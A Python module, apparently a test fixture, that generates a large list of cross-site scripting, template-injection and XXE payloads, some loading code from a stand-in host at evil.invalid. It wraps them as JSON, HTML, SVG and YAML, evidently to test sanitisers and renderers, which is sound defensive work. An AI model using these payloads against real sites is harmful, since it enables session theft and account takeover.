"""Texts that run a script wherever they are taken for markup, an address or code.

Each of them sets ``window.__xss``, or asks a foreign host for something, when it comes to life.
"""

import base64
import json
from typing import Final
from urllib.parse import quote

RUN: Final = "window.__xss=1"
# Nobody can register names below `.invalid`.
FOREIGN: Final = "//evil.invalid/x"

_FIRING: Final = (
    "<img src=x {on}>",
    "<img src=data:, {on}>",
    "<svg {on}>",
    "<svg><image href=x {on}></svg>",
    "<body {on}>",
    "<video src=x {on}></video>",
    "<video><source {on}></video>",
    "<audio src=x {on}></audio>",
    "<iframe src=about:blank {on}></iframe>",
    "<object data=x {on}></object>",
    "<embed src=x {on}>",
    "<input autofocus {on}>",
    "<textarea autofocus {on}></textarea>",
    "<select autofocus {on}></select>",
    "<details open {on}><summary>x</summary></details>",
    "<marquee {on}>x</marquee>",
    "<link rel=stylesheet href=x {on}>",
    "<script src=x {on}></script>",
    "<style {on}>*{{animation:x}}@keyframes x{{}}</style>",
    "<a href=# tabindex=1 autofocus {on}>x</a>",
    "<div tabindex=0 style=animation-name:x {on}>x</div>",
)
_EVENTS: Final = ("onload", "onerror", "onfocus", "ontoggle", "onanimationstart", "onmouseover")
_ADDRESSES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " \x01javascript:{run}",
    "javascript:/*--></title></style></textarea></script><svg/onload='{run}'>*/{run}",
    "javascript://%0a{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,{html}",
    "data:image/svg+xml,{svg_quoted}",
    "data:image/svg+xml;base64,{svg}",
    "data:text/javascript,{run}",
    "data:application/xhtml+xml,{svg_quoted}",
    "blob:{run}",
    "view-source:javascript:{run}",
    "//evil.invalid/x.js",
    "http://evil.invalid/x",
    "\\\\evil.invalid\\x",
)
_IN_ADDRESSES: Final = ("{at}", '<a href="{at}">x</a>', '<iframe src="{at}"></iframe>')
_MARKUP: Final = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script >{run}</script\t>",
    "<script\x0c>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script type=module>{run}</script>",
    "<script src={foreign}></script>",
    "<script>fetch('{foreign}')</script>",
    "<script>import('{foreign}')</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<!--<img src=--><img src=x onerror={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={foreign}></script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={run}>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,{svg_quoted}#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math href='javascript:{run}'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.__xss=1&gt;'></iframe>",
    "<base href='{foreign}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url={foreign}'>",
    "<link rel=stylesheet href={foreign}>",
    "<link rel=preload as=script href={foreign}>",
    "<link rel=prefetch href={foreign}>",
    "<link rel=dns-prefetch href={foreign}>",
    "<link rel=import href={foreign}>",
    "<style>@import '{foreign}';</style>",
    "<style>*{{background:url({foreign})}}</style>",
    "<p style=background:url({foreign})>x</p>",
    "<img src={foreign}>",
    "<img srcset='{foreign} 1x'>",
    "<picture><source srcset={foreign}><img></picture>",
    "<video poster={foreign}></video>",
    "<audio src={foreign}></audio>",
    "<object data='javascript:{run}'></object>",
    "<object data={foreign}></object>",
    "<embed src='javascript:{run}'>",
    "<form action='javascript:{run}'><button autofocus>x</button></form>",
    "<form action={foreign}><input type=submit id=x></form><label for=x>x</label>",
    "<button formaction='javascript:{run}'>x</button>",
    "<isindex action='javascript:{run}' type=image>",
    "<table background='javascript:{run}'>",
    "<bgsound src='javascript:{run}'>",
    "<x onclick={run} tabindex=1 id=x>x</x>",
    "<xss onfocus={run} autofocus tabindex=1>",
    "<img/src=x/onerror={run}>",
    "<img\nsrc=x\nonerror={run}>",
    "<img src=x onerror\x0b={run}>",
    "<img src=`x`onerror={run}>",
    "<img src='x'onerror='{run}'>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "`><img src=x onerror={run}>",
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    '" style="animation-name:x" onanimationstart="{run}"',
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u202e<script>{run}</script>\u202c",
    "\ufeff<script>{run}</script>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<\x00script>{run}</script>",
    "<plaintext><script>{run}</script>",
    "<xmp><img src=x onerror={run}></xmp><img src=x onerror={run}>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></html>",
    "<?xml-stylesheet href='javascript:{run}'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{foreign}'>]><x>&e;</x>",
)
_CODE: Final = (
    "';{run};//",
    '";{run};//',
    "`;{run};//",
    "${{{run}}}",
    "`${{{run}}}`",
    "\\';{run};//",
    "</script>';{run}",
    "\u2028{run}\u2028",
    "\n{run}\n",
    ");{run};(",
    "]);{run};([",
    "}}}};{run};{{{{",
    "{{{{{run}}}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{_c.constructor('{run}')()}}}}",
    "{{{{$el.ownerDocument.defaultView.__xss=1}}}}",
    "[[{run}]]",
    "<%= {run} %>",
    "#{{{run}}}",
    "@{{{run}}}",
    "{{@html '<img src=x onerror={run}>'}}",
    "<div v-html=\"'<img src=x onerror={run}>'\"></div>",
    '<div :onclick="{run}" @vue:mounted="{run}"></div>',
    "<div ng-app>{{{{constructor.constructor('{run}')()}}}}</div>",
    "eval('{run}')",
    "setTimeout('{run}')",
    "new Function('{run}')()",
    "[].constructor.constructor('{run}')()",
    "constructor.constructor('{run}')()",
    "topic.constructor.constructor('{run}')()",
    "payload.__proto__.toString = () => {run}",
    "payload.constructor.constructor = '{run}'",
    'payload.x = "\\u0022;{run};//"',
    'topic contains "<img src=x onerror={run}>"',
    "topic = `${{{run}}}`",
    "__proto__",
    "constructor",
    "toString",
    "__proto__[__xss]=1",
    "@:{{{run}}}",
    "{{n}} | {{'{run}'}}",
    "%s %o %c{run}",
)


def _texts() -> list[str]:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"
    words = {
        "run": RUN,
        "foreign": FOREIGN,
        "svg": base64.b64encode(svg.encode()).decode(),
        "svg_quoted": quote(svg),
        "html": base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
    }
    found = [one.format(**words) for one in (*_MARKUP, *_CODE)]
    for template in _FIRING:
        found += [template.format(on=f"{event}={RUN}") for event in _EVENTS]
    for address in _ADDRESSES:
        at = address.format(**words)
        found += [one.format(at=at) for one in _IN_ADDRESSES]
    return list(dict.fromkeys(found))


TEXTS: Final[tuple[str, ...]] = tuple(_texts())


def in_topic(text: str) -> str:
    """Return a text as it may stand in a topic: without wildcards and the null character."""
    return text.replace("+", "\uff0b").replace("#", "\uff03").replace("\x00", "")


def payloads(text: str, number: int) -> bytes:
    """Return a payload with the text in it: as it is, in JSON, in HTML, in SVG, by turns."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{text}</svg>'
    kinds = (
        text,
        json.dumps({text: text, "list": [text, {text: [text]}]}),
        f"<!doctype html><html><body>{text}</body></html>",
        svg,
        json.dumps(text),
        f"data:image/svg+xml;base64,{base64.b64encode(svg.encode()).decode()}",
        f"a: {text}\nb: {text}\n",
    )
    return kinds[number % len(kinds)].encode()
